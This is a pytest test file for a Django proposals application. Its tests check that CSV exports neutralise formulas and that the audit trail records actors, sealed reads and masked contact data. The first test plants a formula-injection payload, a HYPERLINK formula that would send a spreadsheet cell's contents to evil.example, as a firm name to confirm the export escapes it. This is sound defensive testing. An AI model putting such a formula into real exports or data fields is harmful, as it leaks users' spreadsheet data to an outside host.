"""Issue 17: the proposals CSV export neutralises formulas (item 4); the audit trail is complete (item 3)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from auditlog.models import LogEntry
from auditlog.registry import auditlog
from django.apps import apps
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from proposals import services
from proposals.models import SealedReadLog
from tests.factories import proposal_factories as pf
from tests.proposals.conftest import AFTER


def test_proposals_export_neutralises_a_firm_controlled_formula(world, clock, client_as, alice, firm):
    firm.name_zh = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    firm.save()
    clock(AFTER)
    response = client_as(alice).get(f"/county/scenarios/{world.scenario.pk}/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    firms = {row[1] for row in rows[1:]}
    assert "'" + firm.name_zh in firms
    assert not any(cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)


# ---------------------------------------------------------------- item 3: the audit trail


def test_reading_the_trail_is_a_sealed_read_on_the_page_and_the_api(world, clock, client_as, api_as, alice, dave):
    services.proposal_update(proposal=world.dave_proposal, actor=dave, approach="REVISED-SECRET")
    clock(AFTER)
    assert client_as(alice).get(f"/county/scenarios/{world.scenario.pk}/trail/").status_code == 200
    response = api_as(alice).get(f"/api/v1/proposals/trail/?scenario={world.scenario.pk}")
    assert response.status_code == 200
    logs = sorted((log.via, log.proposal_id) for log in SealedReadLog.objects.filter(user=alice))
    both = sorted([world.dave_proposal.pk, world.erin_proposal.pk])
    assert logs == [("api-trail", pk) for pk in both] + [("trail", pk) for pk in both]


def test_trail_api_names_the_actor_or_says_null(world, clock, api_as, alice, dave):
    services.proposal_update(proposal=world.dave_proposal, actor=dave, approach="REVISED-SECRET")
    clock(AFTER)
    entries = api_as(alice).get(f"/api/v1/proposals/trail/?scenario={world.scenario.pk}").json()["results"]
    actors = {e["actor"] for e in entries}
    assert str(dave) in actors
    assert all(a is None or (isinstance(a, str) and "method-wrapper" not in a) for a in actors)


@pytest.mark.parametrize("auth", ["token", "session"])
def test_api_writes_are_attributed_to_the_token_or_session_user(auth, client, dave, firm):
    api = APIClient()
    if auth == "token":
        api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=dave).key}")
    else:
        api.force_login(dave)
    solution = pf.solution(firm=firm, title="旧标题")
    response = api.patch(f"/api/v1/solutions/{solution.pk}/", {"title": "新标题"}, format="json")
    assert response.status_code == 200, response.content
    entry = LogEntry.objects.get_for_object(solution).filter(action=LogEntry.Action.UPDATE).get()
    assert entry.actor == dave
    assert entry.changes_dict["title"] == ["旧标题", "新标题"]


@pytest.mark.parametrize(
    "model",
    [
        "directory.Organization",
        "directory.Membership",
        "catalog.Solution",
        "catalog.Scenario",
        "talent.Enrolment",
        "talent.Certificate",
        "talent.Exchange",
        "proposals.Proposal",
        "proposals.Engagement",
    ],
)
def test_every_model_that_matters_is_audited(model):
    assert auditlog.contains(apps.get_model(model))


def test_organization_changes_are_in_the_trail_with_the_actor_and_masked_contacts(alice, county):
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=alice).key}")
    data = {"description": "新的简介", "contact_phone": "13800000000"}
    response = api.patch(f"/api/v1/organizations/{county.pk}/", data, format="json")
    assert response.status_code == 200, response.content
    entry = LogEntry.objects.get_for_object(county).filter(action=LogEntry.Action.UPDATE).latest("timestamp")
    assert entry.actor == alice
    assert entry.changes_dict["description"][1] == "新的简介"
    assert "13800000000" not in json.dumps(entry.changes_dict)
